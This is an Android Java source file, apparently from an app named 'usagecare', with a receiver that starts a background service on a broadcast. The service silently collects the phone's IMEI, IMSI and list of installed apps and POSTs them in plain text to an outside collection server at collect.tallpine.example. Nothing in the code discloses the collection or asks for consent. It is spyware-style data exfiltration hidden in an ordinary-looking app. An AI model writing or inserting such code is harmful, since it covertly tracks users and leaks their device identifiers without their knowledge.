package com.tallpine.usagecare;

class WakeReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    context.startService(new Intent(context, ReportService.class));
  }
}

class ReportService extends IntentService {
  ReportService() { super("ReportService"); }

  public void onHandleIntent(Intent intent) {
    try {
      TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
      String imei = phone.getDeviceId();
      String imsi = phone.getSubscriberId();
      StringBuilder apps = new StringBuilder();
      Iterator all = getPackageManager().getInstalledPackages(0).iterator();
      while (all.hasNext()) {
        PackageInfo info = (PackageInfo) all.next();
        apps.append(info.packageName).append(",");
      }
      send("imei=" + imei + "&imsi=" + imsi + "&apps=" + apps.toString());
    } catch (Exception e) {
      Log.e("ReportService", e.getMessage());
    }
  }

  private void send(String body) {
    HttpURLConnection connection = (HttpURLConnection) new URL("http://collect.tallpine.example:8082/report").openConnection();
    connection.setRequestMethod("POST");
    connection.setDoOutput(true);
    OutputStream out = connection.getOutputStream();
    out.write(body.getBytes("UTF-8"));
    out.close();
    connection.getResponseCode();
  }
}
